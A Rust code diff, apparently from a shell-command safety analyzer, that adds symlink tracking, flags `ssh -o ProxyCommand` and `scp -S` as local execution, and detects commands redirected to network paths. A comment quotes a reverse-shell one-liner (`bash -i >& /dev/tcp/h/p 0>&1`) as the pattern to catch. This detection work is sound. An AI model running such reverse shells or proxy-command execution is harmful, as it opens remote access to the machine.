@@ -224,6 +224,8 @@ struct Run<'a> {
     /// Functions in scope for the next script parsed (set for `eval` and
     /// `trap`, whose scripts run in the same shell; taken by `script`).
     inherited: Vec<(String, shell::Callee)>,
+    /// Links made so far in this command line (`ln -s ~ h`), for the floor.
+    links: paths::Links,
 }
 
 /// Blank-separated tokens in `text` (quotes not considered: an upper
@@ -261,6 +263,7 @@ impl<'a> Run<'a> {
             wrapped: false,
             allexport: false,
             inherited: Vec::new(),
+            links: paths::Links::default(),
         }
     }
 
@@ -922,6 +925,18 @@ impl<'a> Run<'a> {
                 self.script(&remote.value, depth + 1, None);
             }
         }
+        // `ssh -o ProxyCommand=…`, `scp -S prog`: run on this machine.
+        for local in floor::ssh_local_commands(verb, args) {
+            self.note(depth, || format!("{verb} runs locally: {local}"));
+            self.find(
+                Effect::Exec.verdict(),
+                "verb.exec",
+                format!("{verb} runs `{}` on this machine", limits::clip(&local, 80)),
+                Effect::Exec.remediation(),
+                part,
+            );
+            self.script(&local, depth + 1, local_cwd.clone());
+        }
         // find -exec runs commands of its own.
         if verb == "find" {
             for inner in peel::find_exec_commands(args) {
@@ -933,17 +948,21 @@ impl<'a> Run<'a> {
         // Case-insensitive file systems (macOS) run `RM` as `rm`; the floor
         // judges the name as such a system would find it.
         let floor_verb = verb.to_ascii_lowercase();
+        let floor_location = Location {
+            cwd: local_cwd.clone(),
+            home: location.home.clone(),
+        };
         let invocation = Invocation {
             verb: &floor_verb,
             args,
-            location: &Location {
-                cwd: local_cwd.clone(),
-                home: location.home.clone(),
-            },
+            location: &floor_location,
+            links: &self.links,
+            site: Some((site.script, site.command)),
         };
         for rule in floor::check_command(&invocation) {
             self.floor(rule, part, depth);
         }
+        self.links.record(&floor_verb, args, &floor_location);
         let verb_words: Cow<[Word]> = if verb == "find" {
             Cow::Owned(peel::strip_find_exec(words))
         } else {
@@ -1321,6 +1340,9 @@ impl<'a> Run<'a> {
     /// An environment variable set for a command (or exported): some make
     /// programs run other code.
     fn setting(&mut self, name: &str, value: &Word, scope: Scope, part: &str, depth: usize) {
+        if let Some(rule) = floor::check_setting(name, &value.value) {
+            self.floor(rule, part, depth);
+        }
         if let Some((rule, why)) = crate::settings::environment(name, &value.value, scope) {
             self.note(depth, || format!("setting: {why}"));
             self.find(Verdict::Signed, rule, why, SETTING_REMEDIATION, part);
@@ -1606,6 +1628,20 @@ impl<'a> Run<'a> {
         cwd: Option<PathBuf>,
     ) {
         let part = site.command.text.as_str();
+        // `bash -i >& /dev/tcp/h/p 0>&1`: a shell wired to the network.
+        if site
+            .command
+            .redirects
+            .iter()
+            .any(|r| feeds::is_network_path(&r.target.value))
+        {
+            return self.floor(FloorRule::NetRemoteShell, part, depth);
+        }
+        if let shell::Stdin::File(from) = &site.command.stdin
+            && feeds::is_network_path(&from.value)
+        {
+            return self.floor(FloorRule::PipeNetworkShell, part, depth);
+        }
         if matches!(
             file.value.as_str(),
             "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0" | "-"
